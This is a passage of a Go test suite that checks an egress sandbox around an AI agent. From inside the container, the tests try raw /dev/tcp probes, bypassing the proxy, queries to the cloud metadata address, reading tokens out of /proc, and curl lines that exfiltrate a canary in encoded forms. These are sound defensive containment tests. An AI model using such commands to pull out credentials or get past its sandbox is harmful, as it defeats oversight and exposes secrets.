package docker

// The escape suite: a bottle launched by the real launch code, upstreams of
// our own on its egress network, and from inside the agent every way out we
// know of. Each way is its own named test, and each must fail — and where it
// reaches the sidecar, be logged with the right decision. The allowed paths
// must work. A test here that passes when it should fail is an escape:
// report it, never weaken the test.

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/moby/moby/api/pkg/stdcopy"
	"github.com/moby/moby/client"

	"github.com/bb-bottles/bb/lib/audit"
	"github.com/bb-bottles/bb/lib/manifest"
	"github.com/bb-bottles/bb/lib/plan"
	"github.com/bb-bottles/bb/lib/routes"
	"github.com/bb-bottles/bb/lib/state"
)

// The upstreams' names on the egress network: two routes allow the first
// two; the third is reachable from the sidecar but in no route.
const (
	allowedHost = "allowed.test"
	secondHost  = "second.test"
	deniedHost  = "denied.test"
)

// escapeTokenEnv is the host variable the bottle's GITHUB token is read
// from; the test sets it to a realistic, freshly minted value.
const escapeTokenEnv = "BB_ESCAPE_GITHUB_TOKEN"

type escapeBottle struct {
	c           *client.Client
	slug        string
	p           *plan.Plan
	st          *state.Store
	token       string // the real token: the sidecar's alone
	placeholder string // what the agent holds instead
	sidecarID   string
	agentID     string
	tlsDir      string
	allowed     *upstream
	second      *upstream
	denied      *upstream
}

// githubToken mints a token shaped like a GitHub personal access token.
func githubToken(t *testing.T) string {
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := []byte("ghp_")
	for range 36 {
		n, err := rand.Int(rand.Reader, big.NewInt(int64(len(alnum))))
		if err != nil {
			t.Fatal(err)
		}
		b = append(b, alnum[n.Int64()])
	}
	return string(b)
}

// egressHasFlag reports whether the sidecar binary knows a serve flag.
func egressHasFlag(t *testing.T, flag string) bool {
	out, _ := exec.Command(staticEgress(t), "serve", "--help").CombinedOutput()
	return bytes.Contains(out, []byte("--"+flag+" "))
}

func setupEscape(t *testing.T, c *client.Client) *escapeBottle {
	ctx := t.Context()
	// The upstream's image builds while the bottle launches.
	var ref string
	var refErr error
	built := make(chan struct{})
	go func() { defer close(built); ref, refErr = upstreamImage(c) }()
	b := &escapeBottle{c: c, slug: newSlug("escape"), st: &state.Store{Dir: t.TempDir()}, token: githubToken(t)}
	t.Setenv(escapeTokenEnv, b.token)
	b.placeholder = plan.Placeholder(b.slug, "GITHUB")

	b.tlsDir = t.TempDir()
	writeUpstreamCerts(t, b.tlsDir, allowedHost, secondHost, deniedHost)

	p, _ := shellPlan(t, b.slug, func(m *manifest.Manifest) {
		m.Bottle.Egress.Routes = []routes.Route{
			{Host: allowedHost, Inject: &routes.Inject{Header: "Authorization", Token: "GITHUB",
				Format: "Bearer {token}", Placeholder: b.placeholder}},
			{Host: secondHost},
		}
		m.Bottle.Tokens = map[string]manifest.TokenSource{"GITHUB": {Env: escapeTokenEnv}}
	})
	// As a provider with a placeholder (claude's ANTHROPIC_API_KEY) plans
	// it: the agent holds the placeholder where a client wants a key.
	p.Agent.Env["GITHUB_TOKEN"] = b.placeholder
	p.Agent.Placeholders = map[string]string{"GITHUB_TOKEN": "GITHUB"}
	raw, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	b.p = p
	cleanupBottle(t, c, b.slug)
	o := launchOptions(t, p, raw, b.st)
	o.Env = os.Getenv
	o.UpstreamCA = filepath.Join(b.tlsDir, "ca.pem")
	// The upstreams are on the egress network, a private one.
	o.AllowPrivate = egressHasFlag(t, "allow-private")
	var progress bytes.Buffer
	o.Progress = &progress
	rec, err := Launch(ctx, c, o)
	if err != nil {
		<-built
		t.Fatalf("Launch: %v\n%s", err, progress.String())
	}
	b.agentID = rec.AgentID
	b.sidecarID = b.containerID(t, rec.SidecarContainer)

	if <-built; refErr != nil {
		t.Fatal(refErr)
	}
	net := p.Docker.EgressNetwork
	b.allowed = startUpstream(t, c, ref, b.slug, net, b.tlsDir, "allowed", allowedHost)
	b.second = startUpstream(t, c, ref, b.slug, net, b.tlsDir, "second", secondHost)
	b.denied = startUpstream(t, c, ref, b.slug, net, b.tlsDir, "denied", deniedHost)
	return b
}

func (b *escapeBottle) containerID(t *testing.T, name string) string {
	t.Helper()
	in, err := b.c.ContainerInspect(t.Context(), name, client.ContainerInspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return in.Container.ID
}

// marker is a unique path segment, to find one request in the upstreams'
// records and the audit log.
func marker(what string) string {
	return "escape-" + what + "-" + strings.ToLower(rand.Text()[:8])
}

// sh runs a shell script in the agent, as the agent, with args as $1....
func (b *escapeBottle) sh(t *testing.T, script string, args ...string) (int, string, string) {
	t.Helper()
	return execIn(t, b.c, b.slug, append([]string{"bash", "-c", script, "bash"}, args...)...)
}

// shAs runs a shell script in the agent as user (root sees what the
// agent's user may not read), with stdin as its input: a value the script
// must not hold in its command line (where /proc would show it).
func (b *escapeBottle) shAs(t *testing.T, user, stdin, script string) (int, string) {
	t.Helper()
	ctx := t.Context()
	ex, err := b.c.ExecCreate(ctx, b.agentID, client.ExecCreateOptions{User: user, Cmd: []string{"bash", "-c", script},
		AttachStdin: true, AttachStdout: true, AttachStderr: true})
	if err != nil {
		t.Fatal(err)
	}
	at, err := b.c.ExecAttach(ctx, ex.ID, client.ExecAttachOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer at.Close()
	if _, err := io.WriteString(at.Conn, stdin); err != nil {
		t.Fatal(err)
	}
	if err := at.CloseWrite(); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := stdcopy.StdCopy(&out, &out, at.Reader); err != nil {
		t.Fatal(err)
	}
	for {
		res, err := b.c.ExecInspect(ctx, ex.ID, client.ExecInspectOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if !res.Running {
			return res.ExitCode, out.String()
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// probeTCP tries a TCP connection from the agent to each host:port at
// once, past any proxy, and returns those that connected.
func (b *escapeBottle) probeTCP(t *testing.T, targets ...string) []string {
	t.Helper()
	script := ""
	for _, hp := range targets {
		h, p, _ := net.SplitHostPort(hp)
		script += fmt.Sprintf("(timeout 3 bash -c 'exec 3<>/dev/tcp/%s/%s' 2>/dev/null && echo 'OPEN %s') &\n", h, p, hp)
	}
	_, out, _ := b.sh(t, script+"wait")
	var open []string
	for line := range strings.Lines(out) {
		if hp, ok := strings.CutPrefix(strings.TrimSpace(line), "OPEN "); ok {
			open = append(open, hp)
		}
	}
	return open
}

// curlResult is what curl in the agent got.
type curlResult struct {
	exit    int    // curl's exit status
	status  int    // the final HTTP status, 0 if none
	connect int    // the proxy's answer to CONNECT, 0 if none
	body    string // the response body
	stderr  string
}

func (r curlResult) String() string {
	return fmt.Sprintf("curl exit %d, status %d, CONNECT %d, body %q, stderr %q", r.exit, r.status, r.connect, r.body, r.stderr)
}

// curl runs curl in the agent (its proxy variables and CA as the agent has
// them, unless the arguments say otherwise).
func (b *escapeBottle) curl(t *testing.T, args ...string) curlResult {
	t.Helper()
	const script = `f=$(mktemp); curl -sS --max-time 10 -o "$f" -w '%{http_code} %{http_connect}\n' "$@"; rc=$?; cat "$f"; rm -f "$f"; exit $rc`
	code, out, errs := b.sh(t, script, args...)
	r := curlResult{exit: code, stderr: errs}
	head, body, _ := strings.Cut(out, "\n")
	r.body = body
	if f := strings.Fields(head); len(f) == 2 {
		r.status, _ = strconv.Atoi(f[0])
		r.connect, _ = strconv.Atoi(f[1])
	}
	return r
}

// rawProxy sends req as is to the sidecar's port and returns its answer.
func (b *escapeBottle) rawProxy(t *testing.T, req string) string {
	t.Helper()
	_, out, _ := b.sh(t, `exec 3<>/dev/tcp/bb.egress/3128 || exit 9; printf '%s' "$1" >&3; timeout 5 cat <&3`, req)
	return out
}

// entries reads the bottle's audit log.
func (b *escapeBottle) entries(t *testing.T) []audit.Entry {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(b.st.EgressDir(b.slug), state.AuditLogFile))
	if err != nil {
		t.Fatal(err)
	}
	var out []audit.Entry
	for line := range bytes.Lines(data) {
		var e audit.Entry
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		out = append(out, e)
	}
	return out
}

// count is how many entries the audit log has: logged looks after it.
func (b *escapeBottle) count(t *testing.T) int { return len(b.entries(t)) }

// logged waits for an audit entry after the first since that match
// accepts: the sidecar writes it just after its answer.
func (b *escapeBottle) logged(t *testing.T, since int, what string, match func(audit.Entry) bool) audit.Entry {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for {
		es := b.entries(t)
		for _, e := range slices.Backward(es[min(since, len(es)):]) {
			if match(e) {
				return e
			}
		}
		if time.Now().After(deadline) {
			var last []string
			for _, e := range es[max(since, len(es)-5):] {
				last = append(last, fmt.Sprintf("%s %s%s %d %s %q", e.Method, e.Host, e.Path, e.Status, e.Decision, e.Reason))
			}
			t.Errorf("no audit entry for %s; the last ones:\n  %s", what, strings.Join(last, "\n  "))
			return audit.Entry{}
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// wantDenied checks that the sidecar logged a deny for host (and path, when
// given).
func (b *escapeBottle) wantLogged(t *testing.T, decision, host, path string) audit.Entry {
	t.Helper()
	return b.logged(t, 0, decision+" "+host+path, func(e audit.Entry) bool {
		return e.Decision == decision && e.Host == host && (path == "" || strings.Contains(e.Path, path))
	})
}

// unseen checks that no upstream saw a request carrying m.
func (b *escapeBottle) unseen(t *testing.T, m string) {
	t.Helper()
	for _, u := range []*upstream{b.allowed, b.second, b.denied} {
		if got := u.saw(t, m); len(got) > 0 {
			t.Errorf("ESCAPE: upstream %s saw %+v", u.name, got)
		}
	}
}

// unseenValue checks that no upstream has seen v anywhere in any request.
func (b *escapeBottle) unseenValue(t *testing.T, v, what string) {
	t.Helper()
	for _, u := range []*upstream{b.allowed, b.second, b.denied} {
		if _, raw := u.seen(t); strings.Contains(raw, v) {
			t.Errorf("ESCAPE: upstream %s saw %s", u.name, what)
		}
	}
}

func TestEscape(t *testing.T) {
	c := needBase(t)
	start := time.Now()
	b := setupEscape(t, c)
	t.Logf("bottle %s with 3 upstreams ready in %v", b.slug, time.Since(start).Round(time.Millisecond))
	canary := b.p.Canary

	// The allowed paths first: a suite where nothing works proves nothing.
	t.Run("allowed route with the token injected", func(t *testing.T) {
		for _, scheme := range []string{"https"} {
			m := marker("allowed-" + scheme)
			r := b.curl(t, scheme+"://"+allowedHost+"/"+m)
			if r.exit != 0 || r.status != 200 || !strings.Contains(r.body, "hello from allowed") {
				t.Fatalf("%s: %v", scheme, r)
			}
			got := b.allowed.saw(t, m)
			if len(got) != 1 {
				t.Fatalf("%s: the upstream saw %d requests for %s", scheme, len(got), m)
			}
			if auth := got[0].Headers["Authorization"]; !slices.Equal(auth, []string{"Bearer " + b.token}) {
				t.Errorf("%s: the upstream saw Authorization %q, want the real token injected", scheme, auth)
			}
			if got[0].Scheme != scheme || got[0].Host != allowedHost {
				t.Errorf("%s: the upstream saw %+v", scheme, got[0])
			}
			e := b.wantLogged(t, audit.Allow, allowedHost, m)
			if e.Status != 200 || e.Secret != "" || e.Canary {
				t.Errorf("%s: logged %+v", scheme, e)
			}
		}
		// The agent's placeholder, where a client insists on sending a
		// key, is replaced by the real token on its own route.
		m := marker("placeholder-own-route")
		r := b.curl(t, "-H", "Authorization: Bearer "+b.placeholder, "https://"+allowedHost+"/"+m)
		if r.status != 200 {
			t.Fatalf("the placeholder on its own route: %v", r)
		}
		if got := b.allowed.saw(t, m); len(got) != 1 || !slices.Equal(got[0].Headers["Authorization"], []string{"Bearer " + b.token}) {
			t.Errorf("the upstream saw %+v, want the real token in place of the placeholder", got)
		}
		for _, scheme := range []string{"https", "http"} {
			m := marker("second-" + scheme)
			if r := b.curl(t, scheme+"://"+secondHost+"/"+m); r.status != 200 || len(b.second.saw(t, m)) != 1 {
				t.Errorf("the second allowed host over %s: %v", scheme, r)
			} else if h := b.second.saw(t, m)[0].Headers; h["Authorization"] != nil {
				t.Errorf("the second host got an Authorization header: %q", h["Authorization"])
			}
		}
	})

	t.Run("no token over plain HTTP", func(t *testing.T) {
		// Injected into a plain-HTTP request, the token would cross the
		// egress network in clear text.
		m := marker("plain-http")
		r := b.curl(t, "http://"+allowedHost+"/"+m)
		if r.status == 200 || len(b.allowed.saw(t, m)) > 0 {
			t.Errorf("ESCAPE: the token went over plain HTTP: %v", r)
		}
	})

	t.Run("direct TCP to the upstream's IP", func(t *testing.T) {
		m := marker("direct-ip")
		if open := b.probeTCP(t, b.allowed.ip+":80", b.allowed.ip+":443", b.denied.ip+":80"); len(open) > 0 {
			t.Errorf("ESCAPE: the agent connected to %v", open)
		}
		r := b.curl(t, "--noproxy", "*", "--connect-timeout", "3", "http://"+b.allowed.ip+"/"+m)
		if r.exit == 0 || r.status != 0 {
			t.Errorf("ESCAPE: curl straight to %s: %v", b.allowed.ip, r)
		}
		// Through the proxy, the IP is not a route either.
		r = b.curl(t, "http://"+b.allowed.ip+"/"+m)
		if r.status != 403 {
			t.Errorf("the proxy to %s: %v", b.allowed.ip, r)
		}
		b.wantLogged(t, audit.Deny, b.allowed.ip, m)
		b.unseen(t, m)
	})

	t.Run("DNS lookups", func(t *testing.T) {
		outside := []string{"example.com", allowedHost, deniedHost, canary + ".example.com"}
		for _, name := range append(outside, b.p.Docker.SidecarContainer) {
			if code, out, _ := b.sh(t, `getent hosts "$1"`, name); code == 0 {
				t.Errorf("ESCAPE: the agent resolved %s: %q", name, out)
			}
		}
		// Past the agent's resolv.conf: the engine's embedded DNS server by
		// its address (it knows the bottle's own names, not the egress
		// network's), a public resolver, the host on the egress network.
		var qs []dnsQ
		for _, name := range outside {
			for _, server := range []string{"127.0.0.11", "8.8.8.8", b.gateway(t, b.p.Docker.EgressNetwork)} {
				qs = append(qs, dnsQ{server, name})
			}
		}
		for q, ans := range b.dnsQueries(t, qs) {
			t.Errorf("ESCAPE: %s answered the agent's query for %s: %s", q.server, q.name, ans)
		}
	})

	t.Run("HTTP to a denied host", func(t *testing.T) {
		m := marker("denied-http")
		r := b.curl(t, "http://"+deniedHost+"/"+m)
		if r.status != 403 || !strings.Contains(r.body, "host "+deniedHost+" is not in this bottle's routes") {
			t.Errorf("%v; want 403 naming %s", r, deniedHost)
		}
		b.wantLogged(t, audit.Deny, deniedHost, m)
		b.unseen(t, m)
	})

	t.Run("CONNECT to a denied host", func(t *testing.T) {
		// On 443 the sidecar completes TLS with the bottle's CA and answers
		// 403 inside, so that curl shows why and how to ask; nothing is
		// resolved or sent.
		m := marker("denied-connect")
		r := b.curl(t, "https://"+deniedHost+"/"+m)
		if r.status != 403 || !strings.Contains(r.body, "host "+deniedHost+" is not in this bottle's routes") ||
			!strings.Contains(r.body, "/_bb/requests") || !strings.Contains(r.body, "bb-egress allow "+b.slug+" "+deniedHost) {
			t.Errorf("%v; want 403 inside TLS naming the host, how to ask, and the slug", r)
		}
		b.wantLogged(t, audit.Deny, deniedHost, m)
		// Elsewhere the CONNECT itself is refused.
		for _, port := range []string{"80", "22"} {
			ans := b.rawProxy(t, "CONNECT "+deniedHost+":"+port+" HTTP/1.1\r\nHost: "+deniedHost+":"+port+"\r\n\r\n")
			if !strings.HasPrefix(ans, "HTTP/1.1 403") || !strings.Contains(ans, deniedHost) {
				t.Errorf("CONNECT %s:%s answered %q; want 403 naming the host", deniedHost, port, ans)
			}
		}
		// A request sent on the heels of the CONNECT, before its answer,
		// goes nowhere (the refusal may be lost to the reset it causes).
		ans := b.rawProxy(t, "CONNECT "+deniedHost+":80 HTTP/1.1\r\nHost: "+deniedHost+":80\r\n\r\nGET /"+m+" HTTP/1.1\r\nHost: "+deniedHost+"\r\n\r\n")
		if strings.Contains(ans, "hello from") || (ans != "" && !strings.HasPrefix(ans, "HTTP/1.1 403")) {
			t.Errorf("ESCAPE: a request pipelined after CONNECT got %q", ans)
		}
		b.logged(t, 0, "CONNECT "+deniedHost, func(e audit.Entry) bool {
			return e.Method == "CONNECT" && e.Host == deniedHost && e.Decision == audit.Deny && e.Status == 403
		})
		b.unseen(t, m)
	})

	t.Run("cloud metadata 169.254.169.254", func(t *testing.T) {
		m := marker("metadata")
		const md = "169.254.169.254"
		if r := b.curl(t, "http://"+md+"/latest/meta-data/"+m); r.status != 403 {
			t.Errorf("HTTP: %v", r)
		}
		b.wantLogged(t, audit.Deny, md, m)
		if r := b.curl(t, "https://"+md+"/"+m); r.status != 403 {
			t.Errorf("HTTPS: %v", r)
		}
		if r := b.curl(t, "--noproxy", "*", "--connect-timeout", "3", "http://"+md+"/"+m); r.exit == 0 {
			t.Errorf("ESCAPE: direct: %v", r)
		}
	})

	t.Run("the sidecar's loopback through the proxy", func(t *testing.T) {
		// Raw proxy requests: curl would not use the proxy for these names.
		m := marker("loopback")
		for _, hp := range []string{"127.0.0.1:3128", "localhost:3128", "127.0.0.1:8080", "127.0.0.1", "0.0.0.0:3128",
			"[::1]:3128", "127.1:3128", "[::ffff:127.0.0.1]:3128"} {
			n := b.count(t)
			ans := b.rawProxy(t, "GET http://"+hp+"/"+m+" HTTP/1.1\r\nHost: "+hp+"\r\nConnection: close\r\n\r\n")
			code := 0
			if f := strings.Fields(firstLine(ans)); len(f) > 1 {
				code, _ = strconv.Atoi(f[1])
			}
			if code < 400 {
				t.Errorf("ESCAPE: GET http://%s/ through the proxy answered %q", hp, ans)
			}
			b.logged(t, n, "GET "+hp, func(e audit.Entry) bool { return e.Status == code && e.Decision == audit.Deny })
		}
		for _, target := range []string{"127.0.0.1:3128", "localhost:3128", "127.0.0.1:22", "[::1]:3128"} {
			n := b.count(t)
			if ans := b.rawProxy(t, "CONNECT "+target+" HTTP/1.1\r\nHost: "+target+"\r\n\r\n"); !strings.HasPrefix(ans, "HTTP/1.1 403") {
				t.Errorf("CONNECT %s answered %q; want 403", target, firstLine(ans))
			}
			b.logged(t, n, "CONNECT "+target, func(e audit.Entry) bool {
				return e.Method == "CONNECT" && e.Status == 403 && e.Decision == audit.Deny
			})
		}
	})

	t.Run("the engine's gateway", func(t *testing.T) {
		m := marker("gateway")
		gw := b.gateway(t, b.p.Docker.EgressNetwork)
		// Whatever listens on the host: the engine's TCP port, SSH, a web
		// server.
		var direct []string
		for _, port := range []string{"80", "2375", "2376", "22"} {
			if r := b.curl(t, "http://"+gw+":"+port+"/"+m); r.status != 403 {
				t.Errorf("through the proxy to %s:%s: %v", gw, port, r)
			}
			if ans := b.rawProxy(t, "CONNECT "+gw+":"+port+" HTTP/1.1\r\nHost: "+gw+"\r\n\r\n"); !strings.HasPrefix(ans, "HTTP/1.1 403") {
				t.Errorf("CONNECT %s:%s answered %q", gw, port, firstLine(ans))
			}
			direct = append(direct, gw+":"+port)
		}
		if open := b.probeTCP(t, direct...); len(open) > 0 {
			t.Errorf("ESCAPE: the agent connected to the gateway directly: %v", open)
		}
		b.wantLogged(t, audit.Deny, gw, m)
	})

	t.Run("no proxy variables, straight out", func(t *testing.T) {
		m := marker("noproxy")
		const unset = `unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy; `
		script := ""
		for _, u := range []string{"http://" + allowedHost + "/" + m, "https://" + allowedHost + "/" + m, "http://example.com/"} {
			script += `(curl -sS --max-time 5 -o /dev/null "` + u + `" 2>/dev/null && echo "GOT ` + u + `") &` + "\n"
		}
		// Knowing the address does not help: there is no route.
		for _, addr := range []string{b.allowed.ip, "1.1.1.1", "8.8.8.8"} {
			script += `(curl -sS --max-time 5 --connect-timeout 3 -o /dev/null --resolve "` + allowedHost + `:80:` + addr + `" "http://` +
				allowedHost + `/` + m + `" 2>/dev/null && echo "GOT ` + addr + `") &` + "\n"
		}
		if _, out, _ := b.sh(t, unset+script+"wait"); strings.Contains(out, "GOT") {
			t.Errorf("ESCAPE: without the proxy:\n%s", out)
		}
		b.unseen(t, m)
	})

	t.Run("IPv6", func(t *testing.T) {
		m := marker("ipv6")
		_, routes6, _ := b.sh(t, `cat /proc/net/ipv6_route 2>/dev/null`)
		for line := range strings.Lines(routes6) {
			f := strings.Fields(line)
			// A default route: destination ::/0 on any device but lo.
			if len(f) == 10 && f[0] == strings.Repeat("0", 32) && f[1] == "00" && f[9] != "lo" {
				t.Errorf("ESCAPE: the agent has an IPv6 default route: %s", line)
			}
		}
		for _, u := range []string{"http://" + allowedHost + "/" + m, "http://[2606:4700:4700::1111]/", "http://[::ffff:" + b.allowed.ip + "]/" + m} {
			if r := b.curl(t, "-6", "--connect-timeout", "3", u); r.exit == 0 && r.status != 403 {
				t.Errorf("ESCAPE: curl -6 %s: %v", u, r)
			}
			if r := b.curl(t, "-6", "--noproxy", "*", "--connect-timeout", "3", u); r.exit == 0 {
				t.Errorf("ESCAPE: curl -6 --noproxy %s: %v", u, r)
			}
		}
		// Docker 20.10 switches IPv6 off in a container on a network
		// without it, which makes the link-local probe moot; it stays, in
		// case an engine does otherwise.
		_, v6, _ := b.sh(t, `echo "disable_ipv6=$(cat /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null), $(wc -l < /proc/net/if_inet6 2>/dev/null || echo 0) IPv6 addresses"`)
		t.Logf("IPv6 in the agent: %s", strings.TrimSpace(v6))
		b.testLinkLocalHost(t)
		b.unseen(t, m)
	})

	t.Run("token not in the agent's environment", func(t *testing.T) {
		_, out, _ := b.sh(t, `env; cat /proc/self/environ`)
		if strings.Contains(out, b.token) || strings.Contains(out, "EGRESS_TOKEN") {
			t.Errorf("ESCAPE: the agent's environment holds the token")
		}
		if !strings.Contains(out, "GITHUB_TOKEN="+b.placeholder) || !strings.Contains(out, canary) {
			t.Errorf("the agent's environment lacks its placeholder or canary: the search is blind")
		}
	})

	t.Run("token not in the agent's files", func(t *testing.T) {
		// As the agent, and as the container's root, which reads more;
		// the patterns come on stdin, so that no command line holds them.
		const grep = `grep -rlaF -D skip --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -f - / 2>/dev/null; echo "grep exit $?"`
		forms := strings.Join(b.tokenForms(), "\n") + "\n"
		for _, user := range []string{"", "0"} {
			code, out := b.shAs(t, user, forms, grep)
			if found := strings.TrimSpace(out[:strings.LastIndex(out, "grep exit")]); code != 0 || found != "" {
				t.Errorf("ESCAPE: as user %q the token is in files: %q", user, out)
			}
		}
		// The control: the same search finds a value written to a file.
		code, out := b.shAs(t, "", b.placeholder+"\n", `echo "$GITHUB_TOKEN" > ~/.control; `+grep+`; rm ~/.control`)
		if code != 0 || !strings.Contains(out, "/home/agent/.control") {
			t.Errorf("the control search found %q: the search is blind", out)
		}
	})

	t.Run("token not in /proc", func(t *testing.T) {
		// Every process's environment and command line, as the agent and
		// as root, searched here.
		const dump = `for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; done 2>/dev/null`
		for _, user := range []string{"", "0"} {
			_, out := b.shAs(t, user, "", dump)
			for _, f := range b.tokenForms() {
				if strings.Contains(out, f) {
					t.Errorf("ESCAPE: as user %q the token is in /proc", user)
				}
			}
			if !strings.Contains(out, "BOT_BOTTLE_CANARY="+canary) {
				t.Errorf("the control: as user %q no canary in /proc: the search is blind", user)
			}
		}
	})

	t.Run("token not in docker inspect of the agent", func(t *testing.T) {
		ctx := t.Context()
		in, err := c.ContainerInspect(ctx, b.agentID, client.ContainerInspectOptions{})
		if err != nil {
			t.Fatal(err)
		}
		texts := map[string][]byte{"the agent container": in.Raw}
		im, err := c.ImageInspect(ctx, in.Container.Image)
		if err != nil {
			t.Fatal(err)
		}
		texts["the agent image"], _ = json.Marshal(im)
		hist, err := c.ImageHistory(ctx, in.Container.Image)
		if err != nil {
			t.Fatal(err)
		}
		texts["the agent image's history"], _ = json.Marshal(hist)
		for what, text := range texts {
			for _, f := range b.tokenForms() {
				if bytes.Contains(text, []byte(f)) {
					t.Errorf("ESCAPE: %s shows the token", what)
				}
			}
		}
		// The control: the sidecar holds it, and inspect shows it there.
		sc, err := c.ContainerInspect(ctx, b.sidecarID, client.ContainerInspectOptions{})
		if err != nil || !bytes.Contains(sc.Raw, []byte(b.token)) {
			t.Errorf("the sidecar's inspect lacks the token (%v): the search is blind", err)
		}
	})

	// The canary, sent on an allowed route in every form the detector
	// knows: each is blocked with 403, logged as the canary, and never
	// reaches the upstream.
	canaryCases := []struct {
		name   string
		script string // $1 is the URL; the canary is the agent's own
	}{
		{"URL", `curl -sS -o /tmp/r -w '%{http_code}' "$1?c=$BOT_BOTTLE_CANARY"`},
		{"URL over plain HTTP", `curl -sS -o /tmp/r -w '%{http_code}' "${1/https:/http:}/$BOT_BOTTLE_CANARY"`},
		{"header", `curl -sS -o /tmp/r -w '%{http_code}' -H "X-Data: $BOT_BOTTLE_CANARY" "$1"`},
		{"body", `curl -sS -o /tmp/r -w '%{http_code}' --data-binary "note=$BOT_BOTTLE_CANARY" "$1"`},
		{"gzip body", `printf %s "$BOT_BOTTLE_CANARY" | gzip -c | curl -sS -o /tmp/r -w '%{http_code}' -H 'Content-Encoding: gzip' --data-binary @- "$1"`},
		{"gzip body without Content-Encoding", `printf %s "$BOT_BOTTLE_CANARY" | gzip -c | curl -sS -o /tmp/r -w '%{http_code}' -H 'Content-Type: application/octet-stream' --data-binary @- "$1"`},
		{"base64 body", `printf %s "$BOT_BOTTLE_CANARY" | base64 -w0 | curl -sS -o /tmp/r -w '%{http_code}' --data-binary @- "$1"`},
		{"base64 header", `curl -sS -o /tmp/r -w '%{http_code}' -H "X-Data: $(printf %s "$BOT_BOTTLE_CANARY" | base64 -w0)" "$1"`},
		{"hex body", `printf %s "$BOT_BOTTLE_CANARY" | od -An -tx1 -v | tr -d ' \n' | curl -sS -o /tmp/r -w '%{http_code}' --data-binary @- "$1"`},
		{"URL-encoded body", `curl -sS -o /tmp/r -w '%{http_code}' --data-urlencode "x=$BOT_BOTTLE_CANARY" "$1"`},
		{"URL to a denied host", `u=${1/https:/http:}; curl -sS -o /tmp/r -w '%{http_code}' "${u/` + allowedHost + `/` + deniedHost + `}?c=$BOT_BOTTLE_CANARY"`},
	}
	for _, tc := range canaryCases {
		t.Run("canary in a "+tc.name, func(t *testing.T) {
			m := marker("canary")
			n := b.count(t)
			_, out, errs := b.sh(t, `rm -f /tmp/r; `+tc.script+`; echo; cat /tmp/r`, "https://"+allowedHost+"/"+m)
			status, body, _ := strings.Cut(out, "\n")
			if status != "403" || !strings.Contains(body, "CANARY") {
				t.Errorf("ESCAPE: the agent got %q %q %q; want 403 naming the canary", status, body, errs)
			}
			e := b.logged(t, n, "the canary", func(e audit.Entry) bool { return e.Canary || e.Decision == audit.Allow })
			if e.Decision != audit.Block || !e.Canary || e.Secret != "CANARY" || e.Status != 403 {
				t.Errorf("logged %s %s%s %d canary=%v secret=%q; want block, canary", e.Decision, e.Host, e.Path, e.Status, e.Canary, e.Secret)
			}
			b.unseen(t, m)
		})
	}
	t.Run("canary reached no upstream", func(t *testing.T) {
		b.unseenValue(t, canary, "the canary")
	})

	t.Run("placeholder to a second allowed host", func(t *testing.T) {
		for _, args := range [][]string{
			{"-H", "Authorization: Bearer " + b.placeholder},
			{"--data-binary", "token=" + b.placeholder},
			{"-H", "X-Key: " + base64.StdEncoding.EncodeToString([]byte(b.placeholder))},
		} {
			m := marker("placeholder")
			r := b.curl(t, append(args, "https://"+secondHost+"/"+m)...)
			if r.status != 403 {
				t.Errorf("ESCAPE: %q to %s: %v", args, secondHost, r)
			}
			e := b.wantLogged(t, audit.Block, secondHost, m)
			if e.Secret == "" || e.Canary {
				t.Errorf("logged secret %q canary %v; want the placeholder's token named", e.Secret, e.Canary)
			}
			b.unseen(t, m)
		}
	})

	t.Run("the real token to a second allowed host", func(t *testing.T) {
		// Were the agent ever to learn it (say, from a response), the
		// sidecar still keeps it from every host but its own.
		for _, args := range [][]string{
			{"-H", "Authorization: Bearer " + b.token},
			{"--data-binary", "t=" + b.token},
			{"https://" + secondHost + "/?t=" + b.token},
		} {
			m := marker("token")
			r := b.curl(t, append(args, "https://"+secondHost+"/"+m)...)
			if r.status != 403 || !strings.Contains(r.body, "GITHUB") {
				t.Errorf("ESCAPE: the token in %q to %s: %v", args[0], secondHost, r)
			}
			b.logged(t, 0, "the token to "+secondHost, func(e audit.Entry) bool {
				return e.Host == secondHost && e.Decision == audit.Block && e.Secret == "GITHUB"
			})
		}
		for _, u := range []*upstream{b.second, b.denied} {
			if _, raw := u.seen(t); strings.Contains(raw, b.token) {
				t.Errorf("ESCAPE: upstream %s saw the token", u.name)
			}
		}
	})

	t.Run("token not reflected back to the agent", func(t *testing.T) {
		// An upstream that echoes its request's headers (as many do, and
		// error pages quoting the request) would hand the injected token
		// to the agent.
		r := b.curl(t, "https://"+allowedHost+"/echo/headers")
		if r.status != 200 && r.status != 403 && r.status != 502 {
			t.Fatalf("echo: %v", r)
		}
		if strings.Contains(r.body, b.token) {
			t.Errorf("ESCAPE: the upstream's echo handed the agent the real token (status %d)", r.status)
		}
	})

	t.Run("apply opens a route live", func(t *testing.T) {
		before := marker("apply-before")
		if r := b.curl(t, "https://"+deniedHost+"/"+before); r.status != 403 {
			t.Fatalf("before apply: %v", r)
		}
		rs := append(slices.Clone(b.p.Egress.Routes), routes.Route{Host: deniedHost, Methods: []string{"GET"}})
		file := filepath.Join(t.TempDir(), "routes.yaml")
		if err := writeRoutes(file, rs); err != nil {
			t.Fatal(err)
		}
		cmd := exec.CommandContext(t.Context(), filepath.Join(hostBins(t), "bb-egress"), "apply", b.slug, file)
		cmd.Env = append(os.Environ(), "BB_STATE_DIR="+b.st.Dir)
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("bb-egress apply: %v\n%s", err, errText(err))
		}
		var res struct {
